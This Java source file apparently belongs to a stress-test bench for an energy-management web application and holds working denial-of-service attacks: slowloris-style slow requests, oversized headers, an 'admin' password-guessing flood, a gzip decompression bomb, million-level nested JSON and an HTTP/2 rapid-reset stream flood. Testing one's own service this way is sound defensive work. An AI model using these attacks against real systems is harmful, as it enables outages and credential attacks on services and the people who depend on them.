package energy.ems.launcher.bench.attack;

import energy.ems.launcher.Problem;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.stream.Collectors;
import java.util.zip.GZIPOutputStream;

/** The kinds of attack. */
public final class Attacks {

    /** Attacks end by themselves after this time. */
    static final Duration LONGEST = Duration.ofMinutes(3);

    private static final String FORM = "Content-Type: application/x-www-form-urlencoded";
    private static final String JSON = "Content-Type: application/json";
    private static final byte[] NOTHING = {};
    private static final int MANY_PLACES = 500;
    /** A server that speaks it says so at once, by frames of its own. */
    private static final Duration HTTP2_PATIENCE = Duration.ofSeconds(2);

    private Attacks() {}

    public static List<Attack> all() {
        return List.of(
                new Parked(
                        "slow bodies",
                        400,
                        20,
                        target -> target.head("POST", "login.xhtml", FORM, "Content-Length: 1000") + "\r\na",
                        "a"),
                new Parked("slow headers", 500, 20, target -> target.head("GET", "login.xhtml"), "X-More: 1\r\n"),
                new Flood("large headers", 8, 100, Attacks::largeHeader),
                new Flood("strangers' sessions", 8, 100, Attacks::withoutCookie),
                Flood.prepared("wrong logins", 8, 50, Attacks::guesses),
                Flood.prepared("right logins of one account", 16, 50, Attacks::logins),
                new Flood("callers who hang up", 8, 600, Attacks::hungUp),
                Flood.prepared("sockets of one account", 4, 20, WebSockets::kept),
                Flood.prepared("sockets that are left", 8, 150, WebSockets::left),
                new Flood("expensive queries of one account", 16, 50, Attacks::expensive),
                Flood.prepared("compressed bodies", 4, 10, Attacks::compressed),
                new Flood("deep JSON", 4, 10, Attacks::deep),
                new Flood("HTTP/2 in the clear", 4, 20, Attacks::http2));
    }

    /**
     * Those whose names contain one of these words, in small letters or capitals.
     *
     * @param words empty for all
     * @throws Problem when there is none
     */
    public static List<Attack> named(List<String> words) {
        List<Attack> named = all().stream()
                .filter(attack -> words.isEmpty() || words.stream().anyMatch(word -> contains(attack.name(), word)))
                .toList();
        if (named.isEmpty()) {
            throw new Problem("There is no kind of attack with these words; there are "
                    + all().stream().map(Attack::name).collect(Collectors.joining(", ")));
        }
        return named;
    }

    private static boolean contains(String name, String word) {
        return name.toLowerCase(Locale.ROOT).contains(word.strip().toLowerCase(Locale.ROOT));
    }

    private static int largeHeader(Target target, int number) throws IOException {
        return answer(target, number, target.request("GET", "login.xhtml", NOTHING, "X-Large: " + "x".repeat(100_000)));
    }

    private static int withoutCookie(Target target, int number) throws IOException {
        return answer(target, number, target.request("GET", "login.xhtml", NOTHING));
    }

    /** Some before the request is there as a whole, the others before it is answered. */
    private static int hungUp(Target target, int number) throws IOException {
        byte[] request = target.request("GET", "login.xhtml", NOTHING);
        try (Connection connection = target.connect(number % MANY_PLACES)) {
            connection.write(number % 4 == 0 ? Arrays.copyOf(request, request.length - 2) : request);
            if (number % 2 == 1) {
                connection.reset();
            }
            return 0;
        }
    }

    /** Many places guess the passwords of many, the administrator's among them. */
    private static Flood.Shot guesses(Target target) throws IOException {
        String page = page(target);
        return (same, number) -> answer(
                target,
                number,
                login(
                        target,
                        LoginForm.filled(page, number % 4 == 0 ? "admin" : "user" + number % 97, "guess" + number)));
    }

    private static Flood.Shot logins(Target target) throws IOException {
        byte[] request = login(target, LoginForm.filled(page(target), target.username(), target.password()));
        return (same, number) -> answer(target, 0, request);
    }

    private static int expensive(Target target, int number) throws IOException {
        LocalDate today = LocalDate.now(ZoneOffset.UTC);
        String span = "from=" + today.minusYears(1).plusDays(1) + "T00:00:00Z&to=" + today + "T00:00:00Z";
        String path = List.of(
                        "devices/" + target.device() + "/consumption?" + span,
                        "devices/" + target.device() + "/measurements?" + span,
                        "search?q=e",
                        "alerts?size=500")
                .get(number % 4);
        try (Connection connection = target.connect(0)) {
            connection.write(target.request("GET", "api/v1/" + path, NOTHING, target.basic()));
            int status = connection.status();
            connection.drain();
            return status;
        }
    }

    private static Flood.Shot compressed(Target target) {
        byte[] request =
                target.request("PUT", "api/v1/account", bomb(), target.basic(), JSON, "Content-Encoding: gzip");
        return (same, number) -> answer(target, 0, request);
    }

    private static int deep(Target target, int number) throws IOException {
        byte[] body = ("{\"display_name\":" + "[".repeat(1_000_000)).getBytes(StandardCharsets.US_ASCII);
        return answer(target, 0, target.request("PUT", "api/v1/account", body, target.basic(), JSON));
    }

    /** The preface of HTTP/2, then settings and requests that are taken back at once, a thousand of each. */
    private static int http2(Target target, int number) throws IOException {
        try (Connection connection = target.connect(number % MANY_PLACES)) {
            connection.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            ByteBuffer frames = ByteBuffer.allocate(200_000);
            frame(frames, 4, 0, NOTHING);
            // :method GET, :scheme http and :path / of the static table.
            byte[] request = {(byte) 0x82, (byte) 0x86, (byte) 0x84};
            byte[] cancel = {0, 0, 0, 8};
            for (int i = 0; i < 1_000; i++) {
                frame(frames, 4, 0, NOTHING);
                frame(frames, 1, 2 * i + 1, request);
                frame(frames, 3, 2 * i + 1, cancel);
            }
            connection.write(Arrays.copyOf(frames.array(), frames.position()));
            return connection.hears(HTTP2_PATIENCE) ? 200 : 0;
        }
    }

    /** RFC 9113, 4.1: length, type, flags (of a request: end of stream, end of headers), stream. */
    private static void frame(ByteBuffer into, int type, int stream, byte[] payload) {
        into.put((byte) 0).putShort((short) payload.length).put((byte) type);
        into.put((byte) (type == 1 ? 5 : 0)).putInt(stream).put(payload);
    }

    private static int answer(Target target, int number, byte[] request) throws IOException {
        try (Connection connection = target.connect(number % MANY_PLACES)) {
            try {
                connection.write(request);
            } catch (IOException refusedWhileSending) {
                // It may have answered before it hung up.
            }
            return connection.status();
        }
    }

    private static byte[] login(Target target, String form) {
        return target.request("POST", "login.xhtml", form.getBytes(StandardCharsets.UTF_8), FORM);
    }

    private static String page(Target target) throws IOException {
        return text(target, target.request("GET", "login.xhtml", NOTHING));
    }

    /** Of a session of the account, and of the node that it is led to. */
    static String cookie(Target target) throws IOException {
        String answer =
                text(target, login(target, LoginForm.filled(page(target), target.username(), target.password())));
        return answer.lines()
                .filter(line -> line.regionMatches(true, 0, "Set-Cookie: ", 0, 12))
                .map(line -> line.substring(12).split(";")[0])
                .collect(Collectors.joining("; "));
    }

    static byte[] joined(byte[] first, byte[] then) {
        byte[] both = Arrays.copyOf(first, first.length + then.length);
        System.arraycopy(then, 0, both, first.length, then.length);
        return both;
    }

    private static String text(Target target, byte[] request) throws IOException {
        try (Connection connection = target.connect(0)) {
            connection.write(request);
            return connection.text();
        }
    }

    /** Most of a gibibyte in most of a mebibyte. */
    private static byte[] bomb() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream zip = new GZIPOutputStream(bytes)) {
            byte[] blanks = " ".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < 950; i++) {
                zip.write(blanks);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
